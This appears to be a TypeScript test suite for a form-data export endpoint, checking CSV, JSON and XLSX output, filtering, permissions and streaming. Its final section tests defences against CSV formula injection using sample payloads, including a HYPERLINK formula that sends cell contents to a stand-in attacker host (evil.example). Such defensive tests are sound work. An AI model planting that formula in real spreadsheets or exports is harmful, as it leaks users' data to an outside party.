import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { buildRequestContext } from '../../src/common/context/request-context';
import { VisibleRecords } from '../../src/data/visible-records.service';
import { createConfig } from '../factories/config.factory';
import { postRecord } from '../utils/api-requests';
import { useAppSuite } from '../utils/app-suite';
import { dataSheet, xlsxWorkbook } from '../utils/xlsx';

/** A form that takes any data, checked by no rule. */
const ANY_DATA = { schema: null, validationRules: [], computedRules: [] };
/** The header row of an XLSX sheet as exceljs reads it: the export's own columns (English), then `fields`. */
const xlsxHeader = (...fields: string[]) => [undefined, 'ID', 'Created at', ...fields];

describe('export', () => {
  const s = useAppSuite({ users: 1, forms: [{ ...ANY_DATA, title: 'Orders: "Q1"/2025 árvíz' }] });

  const submit = (payload: object) => postRecord(s.t, s.user.token, s.configId, payload);
  const download = (query: string, token = s.admin, configId = s.configId) =>
    s.t.request({ method: 'GET', url: `/api/data/${configId}/export${query}`, token });

  it('CSV: exact header, quoting of comma, quote, CR and LF, objects as JSON, missing values empty, no trailing newline', async () => {
    const first = (await submit({ name: 'Smith, John', note: 'say "hi"', tags: ['a', 'b'], qty: 3 })).json();
    const second = (
      await submit({ name: 'Line\nbreak', note: 'cr\rhere', extra: 'ignored', active: true })
    ).json();
    // `format` given twice: the last value counts.
    const response = await download('?format=json&format=csv');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="Orders Q1 2025 arviz.csv"; filename*=UTF-8''Orders%20Q1%202025%20%C3%A1rv%C3%ADz.csv`,
    );
    const text = response.body;
    expect(text.endsWith('\n')).toBe(false);
    // The keys of the first record in the order they were submitted (jsonb alone would give qty first).
    expect(text.split('\n')[0]).toBe('id,createdAt,name,note,tags,qty');
    const rows = parse<Record<string, string>>(text, { columns: true });
    expect(rows).toEqual([
      {
        id: first.dataId,
        createdAt: first.data.createdAt,
        name: 'Smith, John',
        note: 'say "hi"',
        tags: '["a","b"]',
        qty: '3',
      },
      {
        id: second.dataId,
        createdAt: second.data.createdAt,
        name: 'Line\nbreak',
        note: 'cr\rhere',
        tags: '',
        qty: '',
      },
    ]);
    expect(text).toContain('"say ""hi"""');
  });

  it("keeps the first record's submitted key order, with or without a schema, in CSV and XLSX", async () => {
    const withSchema = await createConfig(s.t, s.admin, {
      ...ANY_DATA,
      schema: { type: 'object', properties: { qty: {}, city: {}, name: {}, note: {}, tags: {} } },
    });
    const payload = { name: 'Ann', city: 'Pécs', note: 'n', qty: 2, tags: ['a'] };
    for (const id of [s.configId, withSchema]) {
      await postRecord(s.t, s.user.token, id, payload);
      const csv = await download('?format=csv', s.admin, id);
      expect(csv.body.split('\n')[0]).toBe('id,createdAt,name,city,note,qty,tags');
      const sheet = await dataSheet(await download('?format=excel', s.admin, id));
      expect(sheet.getRow(1).values).toEqual(xlsxHeader('name', 'city', 'note', 'qty', 'tags'));
      const json = await download('?format=json', s.admin, id);
      expect(Object.keys(json.json()[0].data)).toEqual(['name', 'city', 'note', 'qty', 'tags']);
    }
  });

  it('orders a record stored before key order was kept by the schema, then as stored', async () => {
    const withSchema = await createConfig(s.t, s.admin, {
      ...ANY_DATA,
      schema: { type: 'object', properties: { name: {}, note: {}, qty: {} } },
    });
    await s.t.database.client.db.execute(
      sql`insert into data_records (config_id, user_id, data)
          values (${withSchema}::uuid, ${s.user.user.id}::uuid, '{"zz": 1, "qty": 2, "note": "n", "name": "x"}')`,
    );
    const response = await download('?format=csv', s.admin, withSchema);
    expect(response.body.split('\n')[0]).toBe('id,createdAt,name,note,qty,zz');
    const list = await s.t.request({ method: 'GET', url: `/api/data/${withSchema}`, token: s.admin });
    expect(Object.keys(list.json().data[0].data)).toEqual(['name', 'note', 'qty', 'zz']);
  });

  it('CSV of an empty result is an empty body; columns= chooses the field columns', async () => {
    const empty = await download('?format=csv');
    expect(empty.statusCode).toBe(200);
    expect(empty.body).toBe('');
    await submit({ a: 1, b: 2, c: 3 });
    const chosen = await download('?format=csv&columns=c,a');
    expect(chosen.body.split('\n')[0]).toBe('id,createdAt,c,a');
    expect(chosen.body.split('\n')[1]).toMatch(/,3,1$/);
  });

  it('JSON: the array of active records, filtered like the list', async () => {
    await submit({ city: 'Paris', n: 1 });
    const gone = (await submit({ city: 'Paris', n: 2 })).json();
    await submit({ city: 'Wien', n: 3 });
    await s.t.request({
      method: 'DELETE',
      url: `/api/data/${s.configId}/${gone.dataId}`,
      token: s.user.token,
    });
    const response = await download(`?format=json&filters=${encodeURIComponent('{"city":"Paris"}')}`);
    expect(response.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename=".*\.json"/);
    const records = response.json();
    expect(records).toHaveLength(1);
    expect(records[0]).toMatchObject({
      data: { city: 'Paris', n: 1 },
      userId: s.user.user.id,
      isActive: true,
    });
    expect((await download('?format=json&filters=%7B%22city%22%3A%22None%22%7D')).json()).toEqual([]);
  });

  it('XLSX: sheet Data, bold grey localized header, createdAt as a date, width 20, missing cells empty', async () => {
    const first = (await submit({ name: 'Anna', qty: 2, meta: { x: 1 } })).json();
    await submit({ name: 'Béla' });
    const response = await download('?format=excel&lang=hu');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(response.headers['content-disposition']).toMatch(/\.xlsx"/);
    const workbook = await xlsxWorkbook(response);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Data']);
    const sheet = workbook.getWorksheet('Data')!;
    expect(sheet.getRow(1).values).toEqual([undefined, 'Azonosító', 'Létrehozva', 'name', 'qty', 'meta']);
    for (let column = 1; column <= 5; column++) {
      const cell = sheet.getRow(1).getCell(column);
      expect(cell.font?.bold).toBe(true);
      expect(cell.fill).toMatchObject({ type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFD9D9D9' } });
      expect(sheet.getColumn(column).width).toBe(20);
    }
    const row = sheet.getRow(2);
    expect(row.getCell(1).value).toBe(first.dataId);
    expect(row.getCell(2).value).toEqual(new Date(first.data.createdAt));
    expect(row.getCell(3).value).toBe('Anna');
    expect(row.getCell(4).value).toBe(2);
    expect(row.getCell(5).value).toBe('{"x":1}');
    expect(sheet.getRow(3).getCell(4).value).toBeNull();
    // Data cells carry their column's style: a date format for createdAt, none elsewhere.
    for (const dataRow of [row, sheet.getRow(3)]) {
      expect(dataRow.getCell(2).numFmt).toBe('yyyy-mm-dd hh:mm:ss');
      for (const column of [1, 3, 4, 5]) {
        expect(dataRow.getCell(column).numFmt).toBeUndefined();
        expect(dataRow.getCell(column).font).toBeUndefined();
      }
    }
    const english = await dataSheet(await download('?format=excel'));
    expect(english.getRow(1).values).toEqual(xlsxHeader('name', 'qty', 'meta'));
  });

  it('XLSX: XML-illegal code points are removed and cells cut at 32,767 characters; the workbook opens', async () => {
    await submit({
      name: 'a\uFFFEb\uFFFFc',
      ctl: 'x\u0001\u0008\u000B\u000C\u001Fy\tz\n',
      'k\u0002ey': 'v',
      long: 'é'.repeat(40_000),
      emoji: '😀'.repeat(20_000),
      obj: { t: '\uFFFF' },
    });
    const response = await download('?format=excel');
    expect(response.statusCode).toBe(200);
    const sheet = await dataSheet(response);
    expect(sheet.getRow(1).values).toEqual(xlsxHeader('name', 'ctl', 'key', 'long', 'emoji', 'obj'));
    const row = sheet.getRow(2);
    expect(row.getCell(3).value).toBe('abc');
    expect(row.getCell(4).value).toBe('xy\tz\n');
    expect(row.getCell(5).value).toBe('v');
    expect(row.getCell(6).value).toBe('é'.repeat(32_767));
    // 32,767 would split the last emoji's surrogate pair: the cut keeps whole characters.
    expect(row.getCell(7).value).toBe('😀'.repeat(16_383));
    expect(row.getCell(8).value).toBe('{"t":""}');
    // The stored record and the other formats keep every character.
    const json = (await download('?format=json')).json();
    expect(json[0].data.name).toBe('a\uFFFEb\uFFFFc');
    expect(json[0].data.long).toHaveLength(40_000);
  });

  it('XLSX of an empty result is a workbook whose Data sheet has no rows', async () => {
    expect((await dataSheet(await download('?format=excel'))).rowCount).toBe(0);
  });

  it('accepts the grid filter too, and refuses a malformed one with 400 before sending anything', async () => {
    await submit({ name: 'Anna', age: 31 });
    await submit({ name: 'Béla', age: 17 });
    await submit({ name: 'Cecil', age: 45 });
    const filter = encodeURIComponent(
      JSON.stringify([['data.age', '>=', 18], 'and', ['data.name', '<>', 'cecil']]),
    );
    const records = (await download(`?format=json&filter=${filter}`)).json();
    expect(records.map((r: { data: { name: string } }) => r.data.name)).toEqual(['Anna']);
    const bad = await download(`?format=csv&filter=${encodeURIComponent('["data.age","in",[1]]')}`);
    expect(bad.statusCode).toBe(400);
    expect(bad.json().code).toBe('INVALID_QUERY');
  });

  it('needs exportResults: a user gets 403, an unknown format 422', async () => {
    expect((await download('?format=csv', s.user.token)).statusCode).toBe(403);
    const bad = await download('?format=pdf');
    expect(bad.statusCode).toBe(422);
    expect(bad.json().validationErrors[0].field).toBe('format');
  });

  it('streams 200,000 records with bounded memory', async () => {
    await s.t.database.client.db.execute(
      sql`insert into data_records (config_id, user_id, data, created_at)
          select ${s.configId}::uuid, ${s.user.user.id}::uuid,
                 jsonb_build_object('name', 'Person ' || g, 'city', 'City ' || (g % 100), 'qty', g, 'note', repeat('x', 40)),
                 now() - (g * interval '1 second')
          from generate_series(1, 200000) g`,
    );
    global.gc?.();
    const before = process.memoryUsage().heapUsed;
    let peak = before;
    const sampler = setInterval(() => {
      peak = Math.max(peak, process.memoryUsage().heapUsed);
    }, 5);
    let lines = 0;
    let bytes = 0;
    try {
      const response = await s.t.app.inject({
        method: 'GET',
        url: `/api/data/${s.configId}/export?format=csv`,
        headers: { authorization: `Bearer ${s.admin}` },
        payloadAsStream: true,
      });
      expect(response.statusCode).toBe(200);
      for await (const chunk of response.stream()) {
        bytes += (chunk as Buffer).length;
        for (const byte of chunk as Buffer) if (byte === 10) lines++;
      }
    } finally {
      clearInterval(sampler);
    }
    expect(lines).toBe(200_000); // header + 200,000 rows, joined by 199,999 + 1 line feeds
    expect(bytes).toBeGreaterThan(200_000 * 60);
    expect(peak - before).toBeLessThan(150 * 1024 * 1024);
  }, 120_000);
});

describe('export cursor', () => {
  const s = useAppSuite({ forms: [ANY_DATA] });

  it('other requests are served while an export waits for its client', async () => {
    await s.t.database.client.db.execute(
      sql`insert into data_records (config_id, data) select ${s.configId}::uuid, jsonb_build_object('n', g) from generate_series(1, 50) g`,
    );
    const records = s.t.app.get(VisibleRecords);
    const me = (await s.t.request({ method: 'GET', url: '/auth/me', token: s.admin })).json();
    const ctx = buildRequestContext({
      user: { userId: me.id, role: 'admin', email: me.email, siteId: null },
      siteId: null,
    });
    const selection = await records.select(ctx, s.configId, 'exportResults');
    let release!: () => void;
    const paused = new Promise<void>((resolve) => (release = resolve));
    const seen: number[] = [];
    const exporting = records.forEachBatch(
      selection,
      async (rows) => {
        seen.push(...rows.map((row) => Number(row.data.n)));
        if (seen.length === 20) await paused; // the "client" stops reading after the first batch
        return true;
      },
      20,
    );
    await new Promise((resolve) => setTimeout(resolve, 50));
    const health = await s.t.request({ method: 'GET', url: '/health/ready' });
    expect(health.statusCode).toBe(200);
    release();
    await exporting;
    expect(seen).toHaveLength(50);
    expect(new Set(seen).size).toBe(50);
  });
});

/**
 * Cells a spreadsheet would evaluate (OWASP's CSV-injection rule: `=`, `+`, `-`, `@`, tab, CR first)
 * and submitted fields named like the system columns, in both spreadsheet formats, on either database
 * (on PostgreSQL the CSV rows are written by the database).
 */
describe('export: formula cells and system-column names', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")';
  const record = {
    link: HYPERLINK,
    plus: '+1',
    at: '@SUM(A1:A2)',
    minus: '-x',
    negative: -5,
    tab: '\tx',
    cr: '\rx',
    plain: 'a-b=c',
    '=evil': 'v',
    id: 'fake-id',
    createdAt: 'fake-date',
  };

  for (const raw of [false, true]) {
    describe(raw ? 'EXPORT_RAW_CELLS=true' : 'by default', () => {
      const s = useAppSuite({
        env: raw ? { EXPORT_RAW_CELLS: 'true' } : {},
        forms: [ANY_DATA],
        seed: 'once',
      });
      let saved: { dataId: string; data: { createdAt: string } };
      beforeAll(async () => {
        const response = await postRecord(s.t, s.admin, s.configId, record);
        expect(response.statusCode).toBe(201);
        saved = response.json();
      });

      const download = (format: string) =>
        s.t.request({
          method: 'GET',
          url: `/api/data/${s.configId}/export?format=${format}`,
          token: s.admin,
        });
      const q = raw ? '' : "'";

      it(`CSV: ${raw ? 'values and field names as stored' : "strings and field names a spreadsheet would evaluate get a leading '"}, a -5 number stays -5, fields named id and createdAt are headed data.id and data.createdAt`, async () => {
        const response = await download('csv');
        expect(response.statusCode).toBe(200);
        expect(response.body).toBe(
          `id,createdAt,link,plus,at,minus,negative,tab,cr,plain,${q}=evil,data.id,data.createdAt\n` +
            `${saved.dataId},${saved.data.createdAt},"${q}=HYPERLINK(""http://evil.example/?d=""&A2,""x"")",` +
            `${q}+1,${q}@SUM(A1:A2),${q}-x,-5,${q}\tx,"${q}\rx",a-b=c,v,fake-id,fake-date`,
        );
        // A reader keyed by header finds the record's own id and time under id and createdAt.
        const [row] = parse<Record<string, string>>(response.body, { columns: true });
        expect(row).toMatchObject({
          id: saved.dataId,
          createdAt: saved.data.createdAt,
          'data.id': 'fake-id',
        });
      });

      it(`XLSX: the same cells${raw ? ' as stored' : ", with the leading '"}; -5 a number; the localized system headers not shadowed`, async () => {
        const response = await download('excel');
        expect(response.statusCode).toBe(200);
        const sheet = await dataSheet(response);
        expect(sheet.getRow(1).values).toEqual(
          xlsxHeader(
            'link',
            'plus',
            'at',
            'minus',
            'negative',
            'tab',
            'cr',
            'plain',
            `${q}=evil`,
            'data.id',
            'data.createdAt',
          ),
        );
        expect(sheet.getRow(2).values).toEqual([
          undefined,
          saved.dataId,
          new Date(saved.data.createdAt),
          `${q}${HYPERLINK}`,
          `${q}+1`,
          `${q}@SUM(A1:A2)`,
          `${q}-x`,
          -5,
          `${q}\tx`,
          // exceljs writes the CR as it is, and an XML reader reads a bare CR as LF.
          `${q}\nx`,
          'a-b=c',
          'v',
          'fake-id',
          'fake-date',
        ]);
        // Text cells, never formulas, whichever the switch.
        for (let column = 3; column <= 14; column++)
          expect(sheet.getRow(2).getCell(column).type).not.toBe(ExcelJS.ValueType.Formula);
      });
    });
  }
});
